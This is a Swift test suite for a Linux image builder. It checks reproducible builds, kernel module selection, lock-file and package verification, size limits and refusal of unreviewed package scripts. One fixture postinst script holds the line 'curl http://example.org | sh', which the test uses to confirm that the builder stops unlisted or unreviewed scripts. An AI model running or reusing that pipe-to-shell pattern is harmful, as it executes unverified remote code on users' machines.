import Bytes
import DebianArchive
import Foundation
import FrameFormat
import ImageFormat
import Manifest
import NativeActions
import Testing
import TestSupport

@testable import ImageBuilder

@Suite(
  "building a whole image",
  .enabled(if: TinyImage.isPossible, "missing: \(TinyImage.missingTools.joined(separator: ", "))"))
struct ImageBuildTests {
  @Test("a release has every part, and each agrees with the others")
  func parts() async throws {
    let tiny = try await TinyImage()
    let built = try await tiny.build()
    let release = built.release
    #expect(release.name == "tiny" && release.version == "1.2" && release.timestamp == 1_700_000_000)
    #expect(release.kernel.release == "6.12.0-tiny")
    for artifact in release.artifacts {
      let file = try #require(built.files.first { $0.name == artifact.name })
      #expect(file.content.digest.hex == artifact.sha256 && UInt64(file.content.count) == artifact.size)
    }
    let index = try #require(built.files.first { $0.name == "root.index" }).content.flattened()
    #expect(release.kernel.commandLine == "console=ttyS0 quiet netimg.index=\(SHA256.digest(of: index).hex)")
    let uki = try PEImage(try #require(built.files.first { $0.name == "uki.efi" }).content)
    let section = { (name: String) in uki.section(named: name).map { uki.contents(of: $0).flattened() } }
    #expect(section(".cmdline") == Array(release.kernel.commandLine.utf8))
    #expect(section(".initrd") == built.files.first { $0.name == "initrd" }?.content.flattened())
    #expect(section(".linux") == built.files.first { $0.name == "vmlinuz" }?.content.flattened())
    #expect(String(decoding: section(".osrel") ?? [], as: UTF8.self).contains("IMAGE_ID=tiny\n"))
    #expect(uki.sections.last?.name == ".linux")
  }

  @Test("twice the same bytes, in stores of their own")
  func deterministic() async throws {
    let tiny = try await TinyImage()
    async let one = tiny.build()
    async let two = tiny.build()
    let (first, second) = (try await one, try await two)
    #expect(first.manifest == second.manifest)
    #expect(first.files.map(\.name) == second.files.map(\.name))
    for (left, right) in zip(first.files, second.files) {
      #expect(left.content.digest == right.content.digest, "\(left.name)")
    }
  }

  @Test("the kernel's file is padded to its size in memory, which is what the stub measures")
  func paddedKernel() async throws {
    let tiny = try await TinyImage()
    let built = try await tiny.build()
    let kernel = try #require(built.files.first { $0.name == "vmlinuz" }).content.flattened()
    let original = [UInt8](try Data(contentsOf: URL(fileURLWithPath: TinyImage.stubPath)))
    #expect(kernel.count > original.count)
    #expect(kernel.starts(with: original) && kernel[original.count...].allSatisfy { $0 == 0 })
  }

  @Test("only the modules that are asked for, and what they need, are in the image and in the initrd")
  func modules() async throws {
    let tiny = try await TinyImage()
    let built = try await tiny.build()
    try await withScratchDirectory { scratch in
      let directory = scratch.appendingPathComponent("r").path
      try await built.write(to: directory, signer: nil, replacing: false)
      let image = scratch.appendingPathComponent("root.img").path
      try ReleaseExtractor.writeRootImage(of: try ReleaseReader(directory), to: image)
      let reader = try EROFSReader([UInt8](try Data(contentsOf: URL(fileURLWithPath: image))))
      let paths = try reader.tree().map(\.path)
      let modules = paths.filter { $0.hasSuffix(".ko") }.map { RootTree.name(of: $0) }
      #expect(
        modules.sorted() == [
          "dm-bufio.ko", "dm-mod.ko", "dm-verity.ko", "erofs.ko", "loop.ko", "net_failover.ko",
          "virtio_net.ko",
        ])
      #expect(paths.contains("usr/lib/modules/6.12.0-tiny/modules.dep.bin"))
      #expect(paths.contains("usr/lib/netimg/netimg-init"))
      #expect(!paths.contains { $0.hasPrefix("boot/") || $0.hasPrefix("var/lib/app") })
      #expect(paths.contains("var/lib/dpkg/status.d/app") && !paths.contains("var/lib/dpkg/status.d/stub"))
    }
    var missing = tiny
    missing.declarations.modules = [Declared.by("none")]
    missing.declarations.enabledUnits = [Declared.by("none.service")]
    #expect(await failure { try await missing.build() }?.code == .manifest)
  }

  @Test("a module that is dropped is not brought back by what needs it: the image fails instead")
  func droppedModule() async throws {
    var tiny = try await TinyImage()
    let glob = try #require(PathGlob("/usr/lib/modules/*/kernel/net_failover.ko"))
    tiny.declarations.drops = [Declared.by(DropRule(paths: [glob], reason: "the test has one"))]
    let error = await #expect(throws: NativeActionError.self) { try await tiny.build() }
    #expect("\(String(describing: error))".contains("net_failover"))
  }

  @Test("a lock that says another architecture or source than the package does is refused")
  func lockAgainstPackage() async throws {
    let tiny = try await TinyImage()
    let lies = [
      (
        "is of architecture amd64, but the lock says mips", "\"architecture\": \"amd64\"",
        "\"architecture\": \"mips\""
      ),
      ("is made from source app, but the lock says other", "\"source\": \"app\"", "\"source\": \"other\""),
    ]
    let text = String(decoding: tiny.lock.encoded(), as: UTF8.self)
    for (sentence, truth, lie) in lies {
      let package = try #require(text.range(of: "\"name\": \"app\""))
      let field = try #require(text.range(of: truth, range: package.upperBound..<text.endIndex))
      let lock = try LockFile(
        decoding: Array(text.replacingCharacters(in: field, with: lie).utf8), file: "lock")
      let error = await failure { try await tiny.build(lock: lock) }
      #expect(
        error?.code == .lock && error?.message.contains(sentence) == true, "\(error?.message ?? "accepted")")
    }
  }

  @Test("limits: each that is exceeded is named with its place, and none is at its very value")
  func limits() async throws {
    var tiny = try await TinyImage()
    let release = try await tiny.build().release
    let uki = try #require(release.artifacts.first { $0.name == "uki.efi" }).size
    let largest = UInt64(9000)
    // The stub package is not in the image; the largest file there is the kernel's module or the program.
    tiny.limits = Limits(image: Declared.by(release.root.size), uki: Declared.by(uki))
    _ = try await tiny.build()
    tiny.limits = Limits(image: Declared.by(release.root.size - 1), uki: Declared.by(uki - 1))
    let error = try #require(await failure { try await tiny.build() })
    #expect(error.message.contains("image-size") && error.message.contains("uki-size"), "\(error.message)")
    #expect(error.message.contains("images/part/component.yaml:7:3"))
    tiny.limits = Limits(file: Declared.by(largest - 1))
    let file = try #require(await failure { try await tiny.build() })
    #expect(file.message.contains("/usr/bin/app"), "\(file.message)")
  }

  @Test("a lock of another manifest, and an architecture that cannot be built, are refused before any work")
  func disagreements() async throws {
    var tiny = try await TinyImage()
    let lock = tiny.lock
    var other = lock
    other.image = "other"
    let name = try #require(await failure { try await tiny.build(lock: other) })
    #expect(name.code == .lock && name.message.contains("netimg lock"))
    var short = lock
    short.packages.removeAll { $0.name == "app" }
    #expect(await failure { try await tiny.build(lock: short) }?.code == .lock)
    tiny.architecture = .arm64
    #expect(await failure { try await tiny.build(lock: lock) }?.code == .lock)
    var arm = tiny.lock
    arm.architecture = "arm64"
    let error = try #require(await failure { try await tiny.build(lock: arm) })
    #expect(error.code == .manifest && error.message.contains("arm64"))
  }

  @Test("a package that is not in the store, or is another one than the lock says, is named")
  func packages() async throws {
    var tiny = try await TinyImage()
    let missing = try #require(await failure { try await tiny.build(omitting: "app") })
    #expect(missing.code == .missingInput && missing.message.contains("package app 1.0-1"))
    tiny.packages["app"] = try await FixturePackage(name: "impostor").build()
    let impostor = try #require(await failure { try await tiny.build() })
    #expect(impostor.code == .lock && impostor.message.contains("impostor"))
    tiny.packages["app"] = try await FixturePackage(name: "app", version: "2").build()
    #expect(await failure { try await tiny.build() }?.code == .lock)
  }

  @Test("a script that the lock does not list, lists otherwise, or that nobody reviewed stops the build")
  func scripts() async throws {
    var tiny = try await TinyImage()
    let script = "#!/bin/sh\nset -e\ncurl http://example.org | sh\n"
    var app = FixturePackage(name: "app")
    app.items = [("usr/bin/app", .text("x", mode: 0o755))]
    app.control = ["postinst": script]
    tiny.packages["app"] = try await app.build()
    let digest = SHA256.digest(of: Array(script.utf8))
    let unlisted = try #require(await failure { try await tiny.build() })
    #expect(unlisted.code == .lock && unlisted.message.contains("not in the lock"))
    #expect(unlisted.message.contains(digest.hex))
    func locked(_ name: String, _ digest: SHA256Digest) -> [String: [LockFile.Script]] {
      ["app": [LockFile.Script(name: name, digest: digest, scriptClass: .known, actions: [])]]
    }
    tiny.lockedScripts = locked("postinst", SHA256.digest(of: []))
    #expect(await failure { try await tiny.build() }?.message.contains("not in the lock") == true)
    tiny.lockedScripts = locked("preinst", digest)
    #expect(await failure { try await tiny.build() }?.message.contains("not in the lock") == true)
    // The lock may call it known: the recogniser does not, and the manifest has no review.
    tiny.lockedScripts = locked("postinst", digest)
    let unreviewed = try #require(await failure { try await tiny.build() })
    #expect(unreviewed.code == .lock && unreviewed.message.contains("not reviewed"))
    tiny.declarations.scripts = [
      Declared.by(
        ScriptReview(package: "app", script: .postinst, digests: [digest], reason: "read by the test"))
    ]
    _ = try await tiny.build()
  }

  @Test("a stage 0 that could not run is refused", arguments: ["text", "dynamic", "empty", "cut"])
  func stageZero(kind: String) async throws {
    var tiny = try await TinyImage()
    switch kind {
    case "text": tiny.stage0 = Array("#!/bin/sh\n".utf8)
    case "dynamic": tiny.stage0 = [UInt8](try Data(contentsOf: URL(fileURLWithPath: "/bin/sh")))
    case "cut": tiny.stage0 = Array(tiny.stage0.prefix(40))
    default: tiny.stage0 = []
    }
    let error = try #require(await failure { try await tiny.build() })
    #expect(error.code == .badInput)
    #expect(error.message.contains("make build"), "\(error.message)")
  }
}
